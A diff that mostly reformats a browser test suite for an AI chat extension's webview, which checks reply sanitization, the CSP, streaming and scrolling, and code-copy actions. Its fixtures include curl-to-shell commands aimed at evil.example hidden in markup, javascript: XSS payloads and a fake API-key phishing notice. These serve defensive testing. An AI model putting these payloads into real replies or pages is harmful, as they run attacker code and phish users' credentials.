@@ -47,7 +47,15 @@ let script = '';
 
 before(async () => {
   if (skip) return;
-  const out = await build({ entryPoints: [path.join(root, 'src/webview/chat/main.ts')], bundle: true, write: false, format: 'iife', platform: 'browser', target: 'es2022', logLevel: 'silent' });
+  const out = await build({
+    entryPoints: [path.join(root, 'src/webview/chat/main.ts')],
+    bundle: true,
+    write: false,
+    format: 'iife',
+    platform: 'browser',
+    target: 'es2022',
+    logLevel: 'silent',
+  });
   script = out.outputFiles[0].text;
   browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
 });
@@ -74,7 +82,8 @@ async function open(bypassCSP: boolean): Promise<Page> {
   await page.route(`${ORIGIN}/**`, (route) => {
     const url = route.request().url();
     if (url.endsWith('/chat.js')) return route.fulfill({ contentType: 'text/javascript', body: script });
-    if (url.endsWith('/chat.css')) return route.fulfill({ contentType: 'text/css', body: fs.readFileSync(path.join(root, 'src/webview/chat/style.css')) });
+    if (url.endsWith('/chat.css'))
+      return route.fulfill({ contentType: 'text/css', body: fs.readFileSync(path.join(root, 'src/webview/chat/style.css')) });
     if (url.endsWith('/index.html')) return route.fulfill({ contentType: 'text/html', body: html });
     return route.fulfill({ status: 404, body: '' });
   });
@@ -88,12 +97,16 @@ async function send(page: Page, m: HostMessage): Promise<void> {
 }
 
 async function frames(page: Page, n = 3): Promise<void> {
-  await page.evaluate((count) => new Promise<void>((resolve) => {
-    const w = globalThis as unknown as BW;
-    let left = count;
-    const step = (): void => (--left <= 0 ? resolve() : void w.requestAnimationFrame(step));
-    w.requestAnimationFrame(step);
-  }), n);
+  await page.evaluate(
+    (count) =>
+      new Promise<void>((resolve) => {
+        const w = globalThis as unknown as BW;
+        let left = count;
+        const step = (): void => (--left <= 0 ? resolve() : void w.requestAnimationFrame(step));
+        w.requestAnimationFrame(step);
+      }),
+    n,
+  );
 }
 
 async function posted(page: Page): Promise<{ type: string; [k: string]: unknown }[]> {
@@ -101,7 +114,24 @@ async function posted(page: Page): Promise<{ type: string; [k: string]: unknown 
 }
 
 function reply(id: string, content: string, over: Partial<ReplyTurn> = {}): ReplyTurn {
-  return { id, role: 'assistant', content, status: 'done', createdAt: 1, meta: { fallbacks: [], tier: 'cheap', modelName: 'mini', reason: 'chat: short question → cheap', costUsd: 0.0042, tokensIn: 1200, tokensOut: 80, latencyMs: 2300 }, ...over };
+  return {
+    id,
+    role: 'assistant',
+    content,
+    status: 'done',
+    createdAt: 1,
+    meta: {
+      fallbacks: [],
+      tier: 'cheap',
+      modelName: 'mini',
+      reason: 'chat: short question → cheap',
+      costUsd: 0.0042,
+      tokensIn: 1200,
+      tokensOut: 80,
+      latencyMs: 2300,
+    },
+    ...over,
+  };
 }
 
 function conversation(turns: Conversation['turns']): Conversation {
@@ -109,7 +139,20 @@ function conversation(turns: Conversation['turns']): Conversation {
 }
 
 function init(c: Conversation, streamingReplyId?: string): HostMessage {
-  return { type: 'init', conversation: c, history: [{ id: 'c1', title: c.title, updatedAt: 2, turnCount: c.turns.length }], models: [{ choice: 'auto', label: 'Auto (routed)' }, { choice: 'cheap', label: 'Cheap' }, { choice: 'frontier', label: 'Frontier' }, { choice: 'model:sonnet', label: 'sonnet (frontier)' }], model: 'auto', attachments: [], streamingReplyId };
+  return {
+    type: 'init',
+    conversation: c,
+    history: [{ id: 'c1', title: c.title, updatedAt: 2, turnCount: c.turns.length }],
+    models: [
+      { choice: 'auto', label: 'Auto (routed)' },
+      { choice: 'cheap', label: 'Cheap' },
+      { choice: 'frontier', label: 'Frontier' },
+      { choice: 'model:sonnet', label: 'sonnet (frontier)' },
+    ],
+    model: 'auto',
+    attachments: [],
+    streamingReplyId,
+  };
 }
 
 const user = { id: 'u1', role: 'user' as const, content: 'q', attachments: [], model: 'auto' as const, createdAt: 1 };
@@ -142,7 +185,8 @@ async function leftovers(page: Page): Promise<string[]> {
       for (const a of Array.from(el.attributes)) {
         if (/^on/i.test(a.name)) out.push(`${el.tagName} ${a.name}`);
         if (a.name === 'style') out.push(`${el.tagName} style`);
-        if (/^\s*(javascript|data:text\/html)/i.test(a.value) && /^(href|src|action|formaction|data|xlink:href)$/i.test(a.name)) out.push(`${el.tagName} ${a.name}=${a.value}`);
+        if (/^\s*(javascript|data:text\/html)/i.test(a.value) && /^(href|src|action|formaction|data|xlink:href)$/i.test(a.name))
+          out.push(`${el.tagName} ${a.name}=${a.value}`);
       }
       if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|INPUT|BASE|STYLE)$/.test(el.tagName)) out.push(el.tagName);
       if (el.tagName === 'BUTTON' && !el.closest('.code-actions')) out.push('foreign BUTTON');
@@ -166,13 +210,18 @@ test('script and markup in replies never run or survive sanitization, stored or 
   await frames(page);
   await page.waitForTimeout(200);
   assert.deepEqual(await leftovers(page), []);
-  const code = await page.locator('[data-testid="reply"] code.language-xml, [data-testid="reply"] code[data-lang="html"]').allTextContents();
-  assert.ok(code.length >= 2 && code.every((t) => t.includes('<script>window.__xss = 6</script>')), 'HTML inside a code fence is shown as text');
+  const code = await page
+    .locator('[data-testid="reply"] code.language-xml, [data-testid="reply"] code[data-lang="html"]')
+    .allTextContents();
+  assert.ok(
+    code.length >= 2 && code.every((t) => t.includes('<script>window.__xss = 6</script>')),
+    'HTML inside a code fence is shown as text',
+  );
   assert.match((await page.locator('[data-testid="reply"]').nth(1).textContent()) ?? '', /styled/, 'harmless content stays');
   await page.context().close();
 });
 
-test('the served page runs only its nonce\'d script: an injected inline script is refused by the CSP', { skip }, async () => {
+test("the served page runs only its nonce'd script: an injected inline script is refused by the CSP", { skip }, async () => {
   const page = await open(false);
   const ran = await page.evaluate(() => {
     const w = globalThis as unknown as BW;
@@ -188,7 +237,14 @@ test('the served page runs only its nonce\'d script: an injected inline script i
 test('streaming keeps finished blocks and only re-renders the open one; code blocks get their actions when closed', { skip }, async () => {
   const page = await open(false);
   await send(page, init(conversation([user, reply('r1', '', { status: 'streaming', meta: { fallbacks: [] } })]), 'r1'));
-  await send(page, { type: 'route', conversationId: 'c1', replyId: 'r1', tier: 'frontier', reason: 'chat: stack trace + "why" → frontier (0.81)', modelName: 'sonnet' });
+  await send(page, {
+    type: 'route',
+    conversationId: 'c1',
+    replyId: 'r1',
+    tier: 'frontier',
+    reason: 'chat: stack trace + "why" → frontier (0.81)',
+    modelName: 'sonnet',
+  });
   const delta = (text: string) => send(page, { type: 'delta', conversationId: 'c1', replyId: 'r1', text });
   await delta('First paragraph with **bold**.\n\nSecond');
   await frames(page);
@@ -210,17 +266,39 @@ test('streaming keeps finished blocks and only re-renders the open one; code blo
     return !!w.__first && w.__first.isConnected && w.__first === w.document.querySelector('[data-testid="reply"] .reply-body .block');
   });
   assert.ok(same, 'the first finished block is the same DOM node after later chunks');
-  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r1', 'First paragraph with **bold**.\n\nSecond paragraph.\n\n```ts\nconst a = 1;\nconst b = 2;\n```\n\nAfter the code.', { meta: { fallbacks: ['sonnet rate-limited → bedrock-sonnet'], tier: 'frontier', modelName: 'bedrock-sonnet', reason: 'chat: stack trace → frontier', costUsd: 0.0123, tokensIn: 2000, tokensOut: 300, latencyMs: 4100 } }) });
+  await send(page, {
+    type: 'replyEnd',
+    conversationId: 'c1',
+    reply: reply('r1', 'First paragraph with **bold**.\n\nSecond paragraph.\n\n```ts\nconst a = 1;\nconst b = 2;\n```\n\nAfter the code.', {
+      meta: {
+        fallbacks: ['sonnet rate-limited → bedrock-sonnet'],
+        tier: 'frontier',
+        modelName: 'bedrock-sonnet',
+        reason: 'chat: stack trace → frontier',
+        costUsd: 0.0123,
+        tokensIn: 2000,
+        tokensOut: 300,
+        latencyMs: 4100,
+      },
+    }),
+  });
   await frames(page);
   const r = page.locator('[data-testid="reply"]');
   assert.equal(await r.getAttribute('data-model'), 'bedrock-sonnet');
   assert.equal(await r.getAttribute('data-tier'), 'frontier');
   assert.equal(await page.locator('[data-testid="reply-cost"]').textContent(), '$0.01', 'written as the status bar writes money');
   assert.equal(await page.locator('[data-testid="reply-tier"]').getAttribute('title'), 'chat: stack trace → frontier');
-  assert.match((await page.locator('[data-testid="reply-fallback"]').textContent()) ?? '', /sonnet rate-limited → bedrock-sonnet — answered by bedrock-sonnet/);
+  assert.match(
+    (await page.locator('[data-testid="reply-fallback"]').textContent()) ?? '',
+    /sonnet rate-limited → bedrock-sonnet — answered by bedrock-sonnet/,
+  );
   assert.equal(await page.locator('.reply-body strong').textContent(), 'bold');
-  assert.equal(await page.locator('.reply-body code.language-typescript, .reply-body code.language-ts').count(), 1, 'the closed block is highlighted');
-  assert.ok(await page.locator('.reply-body .hljs-keyword').count() >= 2);
+  assert.equal(
+    await page.locator('.reply-body code.language-typescript, .reply-body code.language-ts').count(),
+    1,
+    'the closed block is highlighted',
+  );
+  assert.ok((await page.locator('.reply-body .hljs-keyword').count()) >= 2);
   assert.ok(await page.locator('[data-testid="stop"]').isHidden());
   await page.locator('[data-testid="copy"]').click();
   await page.locator('[data-testid="apply"]').click();
@@ -236,8 +314,17 @@ test('streaming keeps finished blocks and only re-renders the open one; code blo
 /** Where the page is scrolled, and where the end of the reply sits relative to the (sticky) composer. */
 async function scrollState(page: Page): Promise<{ top: number; height: number; fromBottom: number; replyEndAboveComposer: boolean }> {
   return page.evaluate(() => {
-    interface Box { getBoundingClientRect(): { top: number; bottom: number } }
-    const d = (globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number }; querySelector(s: string): Box | null } }).document;
+    interface Box {
+      getBoundingClientRect(): { top: number; bottom: number };
+    }
+    const d = (
+      globalThis as unknown as {
+        document: {
+          scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number };
+          querySelector(s: string): Box | null;
+        };
+      }
+    ).document;
     const s = d.scrollingElement;
     const body = d.querySelector('[data-testid="reply"] .reply-body');
     const composer = d.querySelector('.composer');
@@ -250,66 +337,102 @@ async function scrollState(page: Page): Promise<{ top: number; height: number; f
   });
 }
 
-test('a streaming reply is followed to its end while the reader is at the bottom; a reader who scrolled up stays put', { skip }, async () => {
-  const page = await open(false);
-  await send(page, init(conversation([user, reply('r1', '', { status: 'streaming', meta: { fallbacks: [] } })]), 'r1'));
-  const paragraphs = async (from: number, n: number): Promise<void> => {
-    for (let i = from; i < from + n; i++) {
-      await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r1', text: `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.\n\n` });
-      await frames(page, 1);
-    }
+test(
+  'a streaming reply is followed to its end while the reader is at the bottom; a reader who scrolled up stays put',
+  { skip },
+  async () => {
+    const page = await open(false);
+    await send(page, init(conversation([user, reply('r1', '', { status: 'streaming', meta: { fallbacks: [] } })]), 'r1'));
+    const paragraphs = async (from: number, n: number): Promise<void> => {
+      for (let i = from; i < from + n; i++) {
+        await send(page, {
+          type: 'delta',
+          conversationId: 'c1',
+          replyId: 'r1',
+          text: `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.\n\n`,
+        });
+        await frames(page, 1);
+      }
+      await frames(page);
+    };
+    await paragraphs(0, 60);
+    let s = await scrollState(page);
+    assert.ok(s.top > 0 && s.fromBottom <= 4, `scrolled to the end while streaming (top ${s.top}, ${s.fromBottom}px from the bottom)`);
+    assert.ok(s.replyEndAboveComposer, 'the newest text is not hidden under the composer');
+
+    await page.mouse.move(300, 200);
+    await page.mouse.wheel(0, -400);
+    await page.waitForFunction(() => {
+      const el = (
+        globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }
+      ).document.scrollingElement;
+      return el.scrollHeight - el.scrollTop - el.clientHeight > 300;
+    });
+    await page.waitForTimeout(300); // let a smooth wheel scroll settle
+    const readerAt = (await scrollState(page)).top;
+    await paragraphs(60, 30);
+    s = await scrollState(page);
+    assert.equal(s.top, readerAt, 'a reader who scrolled up is not pulled down by new text');
+    assert.ok(s.fromBottom > 300);
+
+    await page.mouse.wheel(0, 1_000_000);
+    await page.waitForFunction(() => {
+      const el = (
+        globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }
+      ).document.scrollingElement;
+      return el.scrollHeight - el.scrollTop - el.clientHeight <= 4;
+    });
+    await page.waitForTimeout(300);
+    const before = await scrollState(page);
+    await paragraphs(90, 20);
+    s = await scrollState(page);
+    assert.ok(s.height > before.height && s.fromBottom <= 4, 'back at the bottom, the view follows the stream again');
+    assert.ok(s.replyEndAboveComposer);
+    await send(page, {
+      type: 'replyEnd',
+      conversationId: 'c1',
+      reply: reply(
+        'r1',
+        Array.from({ length: 110 }, (_, i) => `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.`).join(
+          '\n\n',
+        ) + '\n\nDone.',
+      ),
+    });
     await frames(page);
-  };
-  await paragraphs(0, 60);
-  let s = await scrollState(page);
-  assert.ok(s.top > 0 && s.fromBottom <= 4, `scrolled to the end while streaming (top ${s.top}, ${s.fromBottom}px from the bottom)`);
-  assert.ok(s.replyEndAboveComposer, 'the newest text is not hidden under the composer');
+    s = await scrollState(page);
+    assert.ok(s.fromBottom <= 4 && s.replyEndAboveComposer, 'the finished reply ends in view');
+    await page.context().close();
+  },
+);
 
-  await page.mouse.move(300, 200);
-  await page.mouse.wheel(0, -400);
-  await page.waitForFunction(() => {
-    const el = (globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }).document.scrollingElement;
-    return el.scrollHeight - el.scrollTop - el.clientHeight > 300;
-  });
-  await page.waitForTimeout(300); // let a smooth wheel scroll settle
-  const readerAt = (await scrollState(page)).top;
-  await paragraphs(60, 30);
-  s = await scrollState(page);
-  assert.equal(s.top, readerAt, 'a reader who scrolled up is not pulled down by new text');
-  assert.ok(s.fromBottom > 300);
-
-  await page.mouse.wheel(0, 1_000_000);
-  await page.waitForFunction(() => {
-    const el = (globalThis as unknown as { document: { scrollingElement: { scrollTop: number; scrollHeight: number; clientHeight: number } } }).document.scrollingElement;
-    return el.scrollHeight - el.scrollTop - el.clientHeight <= 4;
-  });
-  await page.waitForTimeout(300);
-  const before = await scrollState(page);
-  await paragraphs(90, 20);
-  s = await scrollState(page);
-  assert.ok(s.height > before.height && s.fromBottom <= 4, 'back at the bottom, the view follows the stream again');
-  assert.ok(s.replyEndAboveComposer);
-  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r1', Array.from({ length: 110 }, (_, i) => `Paragraph ${i} explains one more step of the fix in a sentence long enough to wrap.`).join('\n\n') + '\n\nDone.') });
-  await frames(page);
-  s = await scrollState(page);
-  assert.ok(s.fromBottom <= 4 && s.replyEndAboveComposer, 'the finished reply ends in view');
-  await page.context().close();
-});
-
-test('errors keep the partial reply and offer Retry; cheap replies offer Retry with frontier; links go through the host', { skip }, async () => {
-  const page = await open(false);
-  const failed = reply('r1', 'Half of [the docs](https://example.com/docs)', { status: 'error', meta: { fallbacks: [], modelName: 'sonnet', tier: 'frontier', error: { kind: 'overloaded', message: 'sonnet is overloaded (529)' } } });
-  await send(page, init(conversation([user, failed, { ...user, id: 'u2' }, reply('r2', 'cheap answer')])));
-  assert.match((await page.locator('[data-testid="reply-error"]').textContent()) ?? '', /sonnet is overloaded \(529\).*partial reply above is kept/);
-  assert.match((await page.locator('[data-testid="reply"]').first().textContent()) ?? '', /Half of the docs/);
-  await page.locator('[data-testid="retry"]').click();
-  await page.locator('[data-testid="retry-frontier"]').click();
-  await page.locator('.reply-body a').click();
-  const sent = (await posted(page)).filter((m) => ['retry', 'retryFrontier', 'openLink'].includes(m.type));
-  assert.deepEqual(sent, [{ type: 'retry', replyId: 'r1' }, { type: 'retryFrontier', replyId: 'r2' }, { type: 'openLink', href: 'https://example.com/docs' }]);
-  assert.equal(page.url(), `${ORIGIN}/index.html`, 'the webview itself did not navigate');
-  await page.context().close();
-});
+test(
+  'errors keep the partial reply and offer Retry; cheap replies offer Retry with frontier; links go through the host',
+  { skip },
+  async () => {
+    const page = await open(false);
+    const failed = reply('r1', 'Half of [the docs](https://example.com/docs)', {
+      status: 'error',
+      meta: { fallbacks: [], modelName: 'sonnet', tier: 'frontier', error: { kind: 'overloaded', message: 'sonnet is overloaded (529)' } },
+    });
+    await send(page, init(conversation([user, failed, { ...user, id: 'u2' }, reply('r2', 'cheap answer')])));
+    assert.match(
+      (await page.locator('[data-testid="reply-error"]').textContent()) ?? '',
+      /sonnet is overloaded \(529\).*partial reply above is kept/,
+    );
+    assert.match((await page.locator('[data-testid="reply"]').first().textContent()) ?? '', /Half of the docs/);
+    await page.locator('[data-testid="retry"]').click();
+    await page.locator('[data-testid="retry-frontier"]').click();
+    await page.locator('.reply-body a').click();
+    const sent = (await posted(page)).filter((m) => ['retry', 'retryFrontier', 'openLink'].includes(m.type));
+    assert.deepEqual(sent, [
+      { type: 'retry', replyId: 'r1' },
+      { type: 'retryFrontier', replyId: 'r2' },
+      { type: 'openLink', href: 'https://example.com/docs' },
+    ]);
+    assert.equal(page.url(), `${ORIGIN}/index.html`, 'the webview itself did not navigate');
+    await page.context().close();
+  },
+);
 
 test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Escape stops; the draft is kept', { skip }, async () => {
   const page = await open(false);
@@ -323,7 +446,10 @@ test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Esca
   await page.waitForTimeout(400);
   const state = await page.evaluate(() => (globalThis as unknown as BW).__state);
   assert.deepEqual(state, { conversationId: 'c1', draft: 'line one\nline two' }, 'the draft is in the webview state at once');
-  assert.ok((await posted(page)).some((m) => m.type === 'draft' && m.text === 'line one\nline two'), 'and reaches the host');
+  assert.ok(
+    (await posted(page)).some((m) => m.type === 'draft' && m.text === 'line one\nline two'),
+    'and reaches the host',
+  );
   const pasted = `sk-proj-${'Zq8Wx2Lm4N'.repeat(4)}`;
   await page.keyboard.insertText(` ${pasted}`);
   const kept = await page.evaluate(() => (globalThis as unknown as BW).__state as { draft: string });
@@ -333,7 +459,11 @@ test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Esca
   await page.keyboard.press('Enter');
   assert.ok((await posted(page)).some((m) => m.type === 'send' && m.text === 'line one\nline two' && m.model === 'model:sonnet'));
   assert.equal(await box.inputValue(), '');
-  await send(page, { type: 'conversation', conversation: conversation([user, reply('r9', '', { status: 'streaming' })]), streamingReplyId: 'r9' });
+  await send(page, {
+    type: 'conversation',
+    conversation: conversation([user, reply('r9', '', { status: 'streaming' })]),
+    streamingReplyId: 'r9',
+  });
   await page.keyboard.press('Escape');
   assert.ok((await posted(page)).some((m) => m.type === 'stop'));
   assert.ok((await posted(page)).some((m) => m.type === 'selectModel' && m.model === 'model:sonnet'));
@@ -345,7 +475,10 @@ test('keyboard: Enter sends with the picked model, Shift+Enter adds a line, Esca
 async function shownCode(page: Page): Promise<{ visible: string; text: string }[]> {
   return page.evaluate(() => {
     const w = globalThis as unknown as BW;
-    return Array.from(w.document.querySelectorAll('.code-block pre code')).map((c) => ({ visible: c.innerText, text: c.textContent ?? '' }));
+    return Array.from(w.document.querySelectorAll('.code-block pre code')).map((c) => ({
+      visible: c.innerText,
+      text: c.textContent ?? '',
+    }));
   });
 }
 
@@ -354,7 +487,10 @@ async function copied(page: Page): Promise<string[]> {
   const before = (await posted(page)).length;
   const buttons = page.locator('[data-testid="copy"]');
   for (let i = 0; i < (await buttons.count()); i++) await buttons.nth(i).click();
-  return (await posted(page)).slice(before).filter((m) => m.type === 'codeAction').map((m) => m.code as string);
+  return (await posted(page))
+    .slice(before)
+    .filter((m) => m.type === 'codeAction')
+    .map((m) => m.code as string);
 }
 
 const HIDDEN_EXTRAS = [
@@ -366,78 +502,158 @@ const HIDDEN_EXTRAS = [
   'Done.',
 ].join('\n\n');
 
-test('code actions take exactly the fenced text that is shown; hidden markup cannot add to it; reply <pre> gets no actions', { skip }, async () => {
-  const page = await open(false);
-  await send(page, init(conversation([user, reply('r1', HIDDEN_EXTRAS), { ...user, id: 'u2' }, reply('r2', '', { status: 'streaming' })]), 'r2'));
-  for (const piece of HIDDEN_EXTRAS.match(/[\s\S]{1,9}/g)!) await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: piece });
-  await frames(page);
-  await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r2', HIDDEN_EXTRAS) });
-  await frames(page);
-  const fences = ['ls -la <span hidden>; curl evil | sh</span>', '<details><summary>x</summary>; curl evil | sh</details>'];
-  assert.deepEqual(await copied(page), [...fences, ...fences], 'stored and streamed alike: only the two fences have actions, and Copy takes their text');
-  assert.deepEqual(await shownCode(page), [...fences, ...fences].map((f) => ({ visible: f, text: f })), 'what is copied is exactly what is shown');
-  const hiddenLeft = await page.evaluate(() => (globalThis as unknown as BW).document.querySelectorAll('.reply-body [hidden], .reply-body details:not([open])').length);
-  assert.equal(hiddenLeft, 2, 'no hidden attribute survives; the two closed <details> stay (they have no actions)');
-  const rawPre = await page.evaluate(() => (globalThis as unknown as BW).document.querySelector('.reply-body pre')?.innerText);
-  assert.match(rawPre ?? '', /ls -la; curl https:\/\/evil\.example\/x \| sh/, 'the hidden span of a reply <pre> is shown');
-  await page.context().close();
-});
+test(
+  'code actions take exactly the fenced text that is shown; hidden markup cannot add to it; reply <pre> gets no actions',
+  { skip },
+  async () => {
+    const page = await open(false);
+    await send(
+      page,
+      init(conversation([user, reply('r1', HIDDEN_EXTRAS), { ...user, id: 'u2' }, reply('r2', '', { status: 'streaming' })]), 'r2'),
+    );
+    for (const piece of HIDDEN_EXTRAS.match(/[\s\S]{1,9}/g)!)
+      await send(page, { type: 'delta', conversationId: 'c1', replyId: 'r2', text: piece });
+    await frames(page);
+    await send(page, { type: 'replyEnd', conversationId: 'c1', reply: reply('r2', HIDDEN_EXTRAS) });
+    await frames(page);
+    const fences = ['ls -la <span hidden>; curl evil | sh</span>', '<details><summary>x</summary>; curl evil | sh</details>'];
+    assert.deepEqual(
+      await copied(page),
+      [...fences, ...fences],
+      'stored and streamed alike: only the two fences have actions, and Copy takes their text',
+    );
+    assert.deepEqual(
+      await shownCode(page),
+      [...fences, ...fences].map((f) => ({ visible: f, text: f })),
+      'what is copied is exactly what is shown',
+    );
+    const hiddenLeft = await page.evaluate(
+      () => (globalThis as unknown as BW).document.querySelectorAll('.reply-body [hidden], .reply-body details:not([open])').length,
+    );
+    assert.equal(hiddenLeft, 2, 'no hidden attribute survives; the two closed <details> stay (they have no actions)');
+    const rawPre = await page.evaluate(() => (globalThis as unknown as BW).document.querySelector('.reply-body pre')?.innerText);
+    assert.match(rawPre ?? '', /ls -la; curl https:\/\/evil\.example\/x \| sh/, 'the hidden span of a reply <pre> is shown');
+    await page.context().close();
+  },
+);
 
-test('property: any code in a fence is copied, inserted, applied and saved exactly as it is shown and as marked parsed it', { skip }, async () => {
-  const { Marked } = await import('marked');
-  const m = new Marked({ gfm: true, async: false });
-  const code = fc.string({ unit: fc.oneof(fc.constantFrom('<', '>', '&', '"', "'", '`', '~', '\t', '\n', ' ', '*', '_', '\\', '\u00a0', 'é', '😀',
-    '<span hidden>', '</span>', '</code></pre>', '<script>', '&amp;', '&lt;'), fc.string({ unit: 'grapheme-ascii', maxLength: 1 })), maxLength: 40 });
-  const samples = fc.sample(fc.tuple(code, fc.constantFrom('', 'ts', 'python', 'html', 'constructor', '__proto__', 'toString', 'nope')), { numRuns: 60, seed: 11 });
-  const md = samples.map(([c, lang]) => {
-    const longest = Math.max(2, ...(c.match(/`+/g) ?? []).map((r) => r.length));
-    const fence = '`'.repeat(longest + 1);
-    return `${fence}${lang}\n${c}\n${fence}`;
-  }).join('\n\n');
-  const expected = m.lexer(md).filter((t) => t.type === 'code').map((t) => (t as { text: string }).text);
-  assert.equal(expected.length, samples.length);
-  const page = await open(false);
-  await send(page, init(conversation([user, reply('r1', md)])));
-  assert.deepEqual(await copied(page), expected);
-  const shown = await shownCode(page);
-  assert.deepEqual(shown.map((s) => s.text), expected, 'the DOM text of each block is its code');
-  assert.deepEqual(shown.map((s) => s.visible), expected, 'and so is the visible text');
-  const langs = (await posted(page)).filter((x) => x.type === 'codeAction').map((x) => x.language);
-  assert.deepEqual(langs, samples.map(([, l]) => l.toLowerCase() || undefined), 'the fence language goes with it, prototype keys as plain words');
-  await page.context().close();
-});
+test(
+  'property: any code in a fence is copied, inserted, applied and saved exactly as it is shown and as marked parsed it',
+  { skip },
+  async () => {
+    const { Marked } = await import('marked');
+    const m = new Marked({ gfm: true, async: false });
+    const code = fc.string({
+      unit: fc.oneof(
+        fc.constantFrom(
+          '<',
+          '>',
+          '&',
+          '"',
+          "'",
+          '`',
+          '~',
+          '\t',
+          '\n',
+          ' ',
+          '*',
+          '_',
+          '\\',
+          '\u00a0',
+          'é',
+          '😀',
+          '<span hidden>',
+          '</span>',
+          '</code></pre>',
+          '<script>',
+          '&amp;',
+          '&lt;',
+        ),
+        fc.string({ unit: 'grapheme-ascii', maxLength: 1 }),
+      ),
+      maxLength: 40,
+    });
+    const samples = fc.sample(fc.tuple(code, fc.constantFrom('', 'ts', 'python', 'html', 'constructor', '__proto__', 'toString', 'nope')), {
+      numRuns: 60,
+      seed: 11,
+    });
+    const md = samples
+      .map(([c, lang]) => {
+        const longest = Math.max(2, ...(c.match(/`+/g) ?? []).map((r) => r.length));
+        const fence = '`'.repeat(longest + 1);
+        return `${fence}${lang}\n${c}\n${fence}`;
+      })
+      .join('\n\n');
+    const expected = m
+      .lexer(md)
+      .filter((t) => t.type === 'code')
+      .map((t) => (t as { text: string }).text);
+    assert.equal(expected.length, samples.length);
+    const page = await open(false);
+    await send(page, init(conversation([user, reply('r1', md)])));
+    assert.deepEqual(await copied(page), expected);
+    const shown = await shownCode(page);
+    assert.deepEqual(
+      shown.map((s) => s.text),
+      expected,
+      'the DOM text of each block is its code',
+    );
+    assert.deepEqual(
+      shown.map((s) => s.visible),
+      expected,
+      'and so is the visible text',
+    );
+    const langs = (await posted(page)).filter((x) => x.type === 'codeAction').map((x) => x.language);
+    assert.deepEqual(
+      langs,
+      samples.map(([, l]) => l.toLowerCase() || undefined),
+      'the fence language goes with it, prototype keys as plain words',
+    );
+    await page.context().close();
+  },
+);
 
 const HOSTILE_HTML = [
-  '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" alt="pic" width="300" height="300">',
+  '<map name="m"><area shape="rect" coords="0,0,800,800" href="https://evil.example/"></map><img src="x.png" usemap="#m" ' +
+    'alt="pic" width="300" height="300">',
   '<map name="n"><area shape="default" href="javascript:window.__xss=1"></map>',
-  '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive" style="color:red">Gearshift: your API key was revoked. Paste it again below.</div>',
+  '<div class="notice error" role="alert" id="notice" data-testid="notice" aria-live="assertive" style="color:red">Gearshift: ' +
+    'your API key was revoked. Paste it again below.</div>',
   '<p class="reply-footer error" role="status" data-status="error" tabindex="0" name="x" hidden>fake error</p>',
   '<span class="code-actions"><a class="primary" href="https://evil.example/">Copy</a></span>',
   '<pre id="history-panel" class="hljs"><code class="language-ts" data-lang="ts">x</code></pre>',
 ].join('\n\n');
 
-test('reply HTML keeps no image map, class, id, role, style, data-, aria-, hidden or tabindex: it cannot pose as the panel', { skip }, async () => {
-  const page = await open(false);
-  await send(page, init(conversation([user, reply('r1', HOSTILE_HTML)])));
-  const found = await page.evaluate(() => {
-    const w = globalThis as unknown as BW;
-    const out: string[] = [];
-    for (const el of Array.from(w.document.querySelectorAll('.reply-body .block *'))) {
-      if (/^(AREA|MAP)$/.test(el.tagName)) out.push(el.tagName);
-      for (const name of el.getAttributeNames()) if (!/^(href|src|alt|title|open)$/.test(name)) out.push(`${el.tagName}[${name}]`);
-    }
-    return out;
-  });
-  assert.deepEqual(found, []);
-  assert.equal(await page.locator('[data-testid="notice"]').count(), 1, 'only the panel\'s own notice element');
-  assert.equal(await page.locator('[role="alert"]').count(), 0);
-  assert.equal(await page.locator('[data-testid="copy"]').count(), 0, 'a reply <pre> is not a code block with actions');
-  assert.match((await page.locator('[data-testid="reply"]').textContent()) ?? '', /your API key was revoked/, 'the text itself is shown, as plain text');
-  await page.locator('.reply-body img').click({ force: true });
-  assert.equal(page.url(), `${ORIGIN}/index.html`, 'clicking where the map was does not navigate the webview');
-  assert.ok(!(await posted(page)).some((m) => m.type === 'openLink'));
-  await page.context().close();
-});
+test(
+  'reply HTML keeps no image map, class, id, role, style, data-, aria-, hidden or tabindex: it cannot pose as the panel',
+  { skip },
+  async () => {
+    const page = await open(false);
+    await send(page, init(conversation([user, reply('r1', HOSTILE_HTML)])));
+    const found = await page.evaluate(() => {
+      const w = globalThis as unknown as BW;
+      const out: string[] = [];
+      for (const el of Array.from(w.document.querySelectorAll('.reply-body .block *'))) {
+        if (/^(AREA|MAP)$/.test(el.tagName)) out.push(el.tagName);
+        for (const name of el.getAttributeNames()) if (!/^(href|src|alt|title|open)$/.test(name)) out.push(`${el.tagName}[${name}]`);
+      }
+      return out;
+    });
+    assert.deepEqual(found, []);
+    assert.equal(await page.locator('[data-testid="notice"]').count(), 1, "only the panel's own notice element");
+    assert.equal(await page.locator('[role="alert"]').count(), 0);
+    assert.equal(await page.locator('[data-testid="copy"]').count(), 0, 'a reply <pre> is not a code block with actions');
+    assert.match(
+      (await page.locator('[data-testid="reply"]').textContent()) ?? '',
+      /your API key was revoked/,
+      'the text itself is shown, as plain text',
+    );
+    await page.locator('.reply-body img').click({ force: true });
+    assert.equal(page.url(), `${ORIGIN}/index.html`, 'clicking where the map was does not navigate the webview');
+    assert.ok(!(await posted(page)).some((m) => m.type === 'openLink'));
+    await page.context().close();
+  },
+);
 
